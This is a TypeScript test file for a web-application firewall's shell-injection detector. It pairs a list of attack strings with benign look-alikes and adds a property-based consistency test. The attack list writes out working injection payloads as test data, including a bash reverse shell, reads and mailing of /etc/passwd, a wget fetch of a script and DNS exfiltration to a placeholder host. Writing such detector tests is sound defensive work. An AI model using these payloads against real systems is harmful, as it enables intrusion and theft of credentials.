import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { detectShell } from "../../../../../runtime/primitives/waf/detect/shell.ts";
import { scaled } from "../../../../helpers/scale.ts";

const ATTACKS = [
  "x;pip install a.example",
  "|head -3 /etc/passwd",
  "|mail a@b.example < /etc/passwd",
  "/items/`cat /etc/passwd`",
  'report.pdf" ; id ; "',
  "--output=/var/www/x.php http://a.example",
  ";w`echo h`o",
  ";un$(echo am)e -a",
  ";${PATH:0:1}bin${PATH:0:1}ls",
  ";x=LS;${x,,}",
  ";find . -name a -exec sh \\;",
  ";dig +short `whoami`.a.example",
  "a=$(id>/tmp/b)",
  "a;ls|sort /etc/passwd",
  "; cat /etc/passwd",
  "|id",
  "$(whoami)",
  "`id`",
  "127.0.0.1 && ls -la",
  "x;wget http://a.example/x.sh",
  "cat /etc/passwd",
  "() { :; }; echo x",
  "a$IFS-b;cat${IFS}/x",
  "w'h'o'am'i",
  "/???/??t /x",
  "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
  "| base64 -d | sh",
  "{cat,/etc/passwd}",
  "echo $((1234*5678))",
  "; ping -c 3 127.0.0.1",
  "x;sleep 0.2",
  "1&id",
  "& whoami",
  "x|false||id",
  "$( id )",
  "a`id`b",
  "x;i`true`d",
  "x;wh$()oami",
  "x;a=i;b=d;$a$b",
  "x;/b*/ech[o] y",
  "x;if true;then id;fi",
  "x;case 1 in 1) id;;esac",
  "x;f(){ id; };f",
  "x;trap id 0",
  "x;. /tmp/x.sh",
  "x;ip addr",
  "x;echo *",
  "x;expr 40 + 2",
  "a@b.test;id",
  "-oProxyCommand=id",
  "$(`wget x.example`)",
  "; systeminfo",
  "uname -a",
  "netstat -an",
  "ps aux",
  "ps -ef",
  "which nc",
  "time ifconfig",
  "nohup id &",
  "nc -lvp 4444",
  "; tar cf - /etc",
  'busybox -c "id"',
  "cat /[e]tc/x",
  "a;whoami",
  "a;set|grep k",
  "a;sudo id",
  "a|busybox id",
  "a;rm k",
  "a;mv k l",
  "a;ln -s / k",
  "a;chown k l",
  "a;ls ..",
  "a;ls /",
  "a;find . -exec id",
  "id;",
  "whoami |",
];
const HONEST = [
  "pip install -r requirements.txt && python manage.py migrate",
  "head -3 of it",
  "java.lang.E: x\n\tat java.base/java.lang.Thread.run(Thread.java:83)",
  "see <https://a.example|link> &amp; more",
  "kubectl get nodes -o wide | grep -v Ready",
  "ls -l src/ | wc -l",
  "status=500 by host | stats count | sort -count",
  "; then ls the folder",
  "docker run -v $(pwd):/src image",
  "if (x && x > 3) { go(); }",
  "a hero; more than that",
  "O'Brien; drop by at 5",
  "cat food",
  "R&D; Q&A",
  "find my phone",
  "make it so; sort of",
  "Run `ls -la` in a shell",
  "$(document).ready(f)",
  "time flies",
  "id;name;date",
  "a=1&id=5",
  "tea & sugar | head office",
  "AT&T",
  "passport & id",
  "x=1&id&y=2",
  "docker & git",
  "$HOME variable",
  "; see /api/*.json; /img/*",
  "$total = 1; $total",
  "a;b. /c",
  "if so; then yes; else no",
  "ps: see you",
  "which python version",
  "time machine",
  "time python",
  "nice curl",
  "id card -5",
  "uname -a prints the name",
  "$(`#item-${id}`)",
  "$(`link`)",
  "rock;history;date",
  "ip;hostname;date",
  "php;docker compose;git basics",
  "the end; time . . .",
  "fish; cut / paste",
  "cats; rm is a cat's name",
  "a; sudo make me a sandwich",
  "id;touch screen",
  "id",
  "who;",
  "ls; and more",
];

describe("detectShell", () => {
  it.each(ATTACKS)("sees a Unix command in %j", (value) => {
    const finding = detectShell(value);
    expect(finding?.sign).toMatch(/^[a-z0-9-]+$/);
    expect(finding!.start).toBeGreaterThanOrEqual(0);
    expect(finding!.end).toBeGreaterThan(finding!.start);
    expect(finding!.end).toBeLessThanOrEqual(value.length);
  });

  it.each(HONEST)("passes %j", (value) => {
    expect(detectShell(value)).toBeUndefined();
  });

  it("answers for every string, twice the same", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...ATTACKS, ...HONEST),
      fc.constantFrom("'", '"', "<", "$(", "..", "/*", "{{", "\0", "%", "\n"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const value = pieces.join("");
        const finding = detectShell(value);
        expect(detectShell(value)).toEqual(finding);
        if (finding !== undefined) expect(finding.end).toBeLessThanOrEqual(value.length);
      }),
      { numRuns: scaled(100, 5000) },
    );
  });
});
